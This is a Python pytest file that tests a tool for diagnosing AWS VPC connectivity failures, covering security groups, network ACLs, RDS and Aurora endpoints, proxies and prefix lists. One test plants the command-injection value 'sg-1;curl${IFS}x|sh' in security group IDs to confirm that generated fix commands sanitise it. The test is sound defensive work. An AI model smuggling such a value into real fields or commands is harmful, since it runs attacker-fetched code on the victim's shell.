"""Each single misconfiguration of the healthy VPC yields exactly its verdict and its fix."""

from __future__ import annotations

from pathlib import Path

import pytest

from checker.detect.model import Category
from checker.finding import ErrorCount
from checker.network.evaluate import Destination, evaluate_destination
from checker.network.load import load_network
from checker.network.verdicts import BY_CODE, CODES, Kind
from tests.network import builder
from tests.network.builder import CASES


def _evaluate(folder: Path, host: str, port: int | None, category: Category) -> Destination:
    network = load_network(folder)
    error = ErrorCount(category, category, f"connect {category} {host}:{port}", host, port, None, 28, "")
    result = evaluate_destination(network, "orders-api", error, None, None)
    assert result is not None
    return result


def test_every_verdict_code_has_a_case() -> None:
    assert sorted(CASES) == sorted(c.code for c in CODES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_single_misconfiguration_yields_its_verdict_and_fix(name: str, tmp_path: Path) -> None:
    case = CASES[name]
    result = _evaluate(builder.build(tmp_path, case.edit), case.host, case.port, case.category)
    assert result.cause.code == case.code, result.cause.title
    assert result.cause.fix == case.fix
    blocking = [v.code for v in result.verdicts]
    if BY_CODE[case.code].kind is Kind.BLOCKS:
        assert blocking == [case.code] or set(blocking) == {case.code}, blocking
    else:
        assert blocking == []  # never a blocker invented where the configuration allows the path


@pytest.mark.parametrize(
    ("host", "port"),
    [
        ("10.0.3.47", 5432),
        (builder.DB_HOST, 5432),
        (builder.S3_HOST, 443),
        (builder.SM_HOST, 443),
        (builder.API, 443),
        ("sts.us-east-1.amazonaws.com", 443),
    ],
)
def test_healthy_control_says_path_open(host: str, port: int, tmp_path: Path) -> None:
    result = _evaluate(builder.build(tmp_path), host, port, "ETIMEDOUT")
    assert result.cause.code == "PATH_OPEN"
    assert result.cause.title.startswith("The network allows this path from subnet ")
    assert result.cause.title.endswith("the service did not answer.")
    assert result.verdicts == ()


def test_two_misconfigurations_yield_both_in_path_order(tmp_path: Path) -> None:
    folder = builder.build(tmp_path, builder.nacl_ephemeral, builder.sg_egress_443_only)
    result = _evaluate(folder, "10.0.3.47", 5432, "ETIMEDOUT")
    assert [v.code for v in result.verdicts] == ["SG_EGRESS_BLOCKS", "NACL_RETURN_DENY"]
    assert result.cause.code == "SG_EGRESS_BLOCKS"
    assert result.verdicts[0].subnets == (builder.SUB_A, builder.SUB_B)  # one SG, both subnets
    assert result.verdicts[1].subnets == (builder.SUB_B,)


def test_a_rule_in_one_subnet_is_a_labelled_prediction(tmp_path: Path) -> None:
    result = _evaluate(builder.build(tmp_path, builder.nacl_ephemeral), "10.0.3.47", 5432, "ETIMEDOUT")
    assert result.prediction == (
        f"Prediction from the configuration: failures are expected from {builder.SUB_B} (use1-az2) only; "
        f"{builder.SUB_A} (use1-az1) is not affected by this rule."
    )
    assert result.cause.title == (
        f"Network ACL {builder.ACL_CUSTOM} of subnet {builder.SUB_B} does not allow the replies from "
        "10.0.3.47 back in on ports 1024-65535 (rule * default deny): the SYN-ACK is dropped."
    )


def test_refused_is_never_blamed_on_the_network(tmp_path: Path) -> None:
    folder = builder.build(tmp_path, builder.sg_egress_443_only)
    result = _evaluate(folder, "10.0.3.47", 5432, "ECONNREFUSED")
    assert result.cause.code == "SERVICE_REFUSED"
    assert result.cause.fix == ""
    assert result.note == (
        "The configuration read would block this path (SG_EGRESS_BLOCKS), yet a host "
        "answered: the evidence may be from another time than the failures."
    )


def test_enetunreach_is_not_explained_by_a_security_group(tmp_path: Path) -> None:
    folder = builder.build(tmp_path, builder.sg_egress_443_only)
    result = _evaluate(folder, "10.0.3.47", 5432, "ENETUNREACH")
    assert result.cause.code == "UNDECIDED"
    assert result.cause.evidence["reason"] == (
        "no step of the configuration explains ENETUNREACH (it does block: SG_EGRESS_BLOCKS)"
    )


def test_missing_file_is_named_not_guessed(tmp_path: Path) -> None:
    folder = builder.build(tmp_path, builder.no_security_groups_file)
    result = _evaluate(folder, "10.0.3.47", 5432, "ETIMEDOUT")
    assert result.cause.evidence["reason"] == "describe-security-groups.json is missing"


def test_rds_host_name_resolves_to_the_instance_and_its_group(tmp_path: Path) -> None:
    folder = builder.build(tmp_path, builder.sg_egress_443_only)
    result = _evaluate(folder, builder.DB_HOST, 5432, "ETIMEDOUT")
    assert result.target is not None
    assert (result.target.resource, result.target.group_ids, result.target.subnet_ids) == (
        "RDS instance orders-db",
        (builder.SG_DB,),
        (builder.SUB_DB_B,),
    )
    assert result.cause.fix == CASES["SG_EGRESS_BLOCKS"].fix


def test_hostile_ids_never_reach_a_fix_command(tmp_path: Path) -> None:
    def hostile(files: builder.Files) -> None:
        builder.sg_egress_443_only(files)
        for group in files["describe-security-groups"]["SecurityGroups"]:
            if group["GroupId"] == builder.SG_FN:
                group["GroupId"] = "sg-1;curl${IFS}x|sh"
        config = files["get-function-configuration.orders-api"]["VpcConfig"]
        config["SecurityGroupIds"] = ["sg-1;curl${IFS}x|sh"]

    result = _evaluate(builder.build(tmp_path, hostile), "10.0.3.47", 5432, "ETIMEDOUT")
    assert result.cause.code == "SG_EGRESS_BLOCKS"
    assert result.cause.fix == (
        "aws ec2 authorize-security-group-egress --group-id GROUP --ip-permissions "
        f"IpProtocol=tcp,FromPort=5432,ToPort=5432,UserIdGroupPairs=[{{GroupId={builder.SG_DB}}}]"
    )


def test_a_private_name_the_evidence_does_not_know_is_undecided(tmp_path: Path) -> None:
    # Egress allows 5432 only to the VPC: whether that covers orders.internal depends on its address.
    result = _evaluate(builder.build(tmp_path), "orders.internal", 5432, "ETIMEDOUT")
    assert result.cause.code == "UNDECIDED"
    assert result.cause.evidence["reason"] == (
        "orders.internal is no address, RDS endpoint or AWS API the "
        "evidence knows: its address decides every step"
    )
    assert result.verdicts == ()


def test_a_proxy_in_two_subnets_blocks_only_when_both_acls_do(tmp_path: Path) -> None:
    def proxy(files: builder.Files) -> None:
        files["describe-db-proxies"]["DBProxies"] = [
            {
                "DBProxyName": "orders-proxy",
                "DBProxyArn": "arn:aws:rds:us-east-1:123456789012:db-proxy:prx-0a1b2c3d4e5f60718",
                "Status": "available",
                "EngineFamily": "POSTGRESQL",
                "VpcId": builder.VPC,
                "VpcSecurityGroupIds": [builder.SG_DB],
                "VpcSubnetIds": [builder.SUB_DB_B, "subnet-0c8b7a6f5e4d3c2b1"],
                "Endpoint": "orders-proxy.proxy-c9akciq32xyz.us-east-1.rds.amazonaws.com",
                "RequireTLS": True,
            }
        ]

    host = "orders-proxy.proxy-c9akciq32xyz.us-east-1.rds.amazonaws.com"
    folder = builder.build(tmp_path / "one", proxy, builder.db_nacl_no_return)
    one = _evaluate(folder, host, 5432, "ETIMEDOUT")
    assert one.target is not None and str(one.target.net) == "10.0.0.0/21"  # holds both subnets
    assert one.cause.code == "UNDECIDED"  # only the 1b subnet's ACL blocks: which one is it in?
    assert one.verdicts == ()
    opened = _evaluate(builder.build(tmp_path / "open", proxy), host, 5432, "ETIMEDOUT")
    assert opened.cause.code == "PATH_OPEN"


def test_an_aurora_cluster_endpoint_walks_to_its_instances_subnets(tmp_path: Path) -> None:
    def aurora(files: builder.Files) -> None:
        instance = files["describe-db-instances"]["DBInstances"][0]
        instance["DBClusterIdentifier"] = "orders-cluster"
        files["describe-db-clusters"]["DBClusters"] = [
            {
                "DBClusterIdentifier": "orders-cluster",
                "Status": "available",
                "Engine": "aurora-postgresql",
                "Endpoint": "orders-cluster.cluster-c9akciq32xyz.us-east-1.rds.amazonaws.com",
                "ReaderEndpoint": "orders-cluster.cluster-ro-c9akciq32xyz.us-east-1.rds.amazonaws.com",
                "Port": 5432,
                "VpcSecurityGroups": [{"VpcSecurityGroupId": builder.SG_DB, "Status": "active"}],
                "DBClusterMembers": [{"DBInstanceIdentifier": "orders-db", "IsClusterWriter": True}],
            }
        ]

    folder = builder.build(tmp_path, aurora, builder.db_ingress_from_elsewhere)
    result = _evaluate(
        folder, "orders-cluster.cluster-ro-c9akciq32xyz.us-east-1.rds.amazonaws.com", 5432, "ETIMEDOUT"
    )
    assert result.target is not None
    assert (result.target.resource, result.target.subnet_ids) == (
        "RDS cluster orders-cluster",
        (builder.SUB_DB_B,),
    )
    assert result.cause.fix == CASES["DEST_SG_INGRESS_BLOCKS"].fix


def test_a_prefix_list_whose_entries_are_missing_leaves_public_addresses_undecided(tmp_path: Path) -> None:
    def no_entries(files: builder.Files) -> None:
        del files["get-managed-prefix-list-entries.pl-63a5400a"]

    folder = builder.build(tmp_path, no_entries)
    public = _evaluate(folder, "52.216.10.4", 443, "ETIMEDOUT")  # an S3 address, or not: the list decides
    assert public.cause.code == "UNDECIDED"
    assert public.cause.evidence["reason"] == (
        "a route of rtb-0b1b2b3b4b5b6b7b8 may be more specific for 52.216.10.4"
    )
    assert _evaluate(folder, "10.0.3.47", 5432, "ETIMEDOUT").cause.code == "PATH_OPEN"
    assert _evaluate(folder, builder.API, 443, "ETIMEDOUT").cause.code == "PATH_OPEN"


def test_ipv6_from_a_dual_stack_function_goes_out_the_egress_only_gateway(tmp_path: Path) -> None:
    folder = builder.build(tmp_path, builder.dual_stack_function)
    result = _evaluate(folder, builder.IPV6_API, 443, "ETIMEDOUT")
    assert result.cause.code == "PATH_OPEN"
